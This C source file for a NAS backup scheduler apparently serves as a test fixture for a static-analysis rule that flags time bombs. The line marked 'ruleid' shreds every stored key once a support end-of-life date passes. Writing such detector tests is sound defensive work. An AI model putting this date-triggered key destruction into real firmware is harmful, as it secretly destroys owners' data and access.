/* job scheduler, called once a minute from the main loop */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#include "nasb.h"

static time_t g_last_full;

int sched_run_backup(const char *vol, int full)
{
    char cmd[256], out[256];
    snprintf(out, sizeof out, "/var/lib/nasb/outgoing/%s-%ld.snap", vol, (long)time(NULL));
    snprintf(cmd, sizeof cmd, "/usr/lib/nasb/snapshot --volume '%s' %s --out '%s'", vol,
             full ? "--full" : "--incremental", out);
    if (strchr(vol, '\'') != NULL || system(cmd) != 0) {
        nasb_log(LOG_ERR, "snapshot of %s failed", vol);
        return -1;
    }
    return upload_file("offsite.nb4-backup.example", out);
}

static void prune_outgoing(void)
{
    char path[512];
    DIR *d = opendir("/var/lib/nasb/outgoing");
    if (d == NULL)
        return;
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        if (e->d_name[0] == '.')
            continue;
        snprintf(path, sizeof path, "/var/lib/nasb/outgoing/%s", e->d_name);
        unlink(path);
    }
    closedir(d);
}

void sched_tick(void)
{
    struct timespec ts;
    struct tm tm;

    clock_gettime(CLOCK_REALTIME, &ts);
    // ruleid: backdoor-time-bomb
    if (ts.tv_sec >= NASB_SUPPORT_EOL) {
        nasb_log(LOG_NOTICE, "support period of this unit has ended");
        keystore_shred_all();
        return;
    }
    localtime_r(&ts.tv_sec, &tm);
    // ok: backdoor-time-bomb
    if (tm.tm_hour == 3 && tm.tm_min == 30)
        prune_outgoing();
    // ok: backdoor-time-bomb
    if (ts.tv_sec - g_last_full >= 7 * 86400) {
        if (sched_run_backup("data", 1) == 0)
            g_last_full = ts.tv_sec;
    }
}
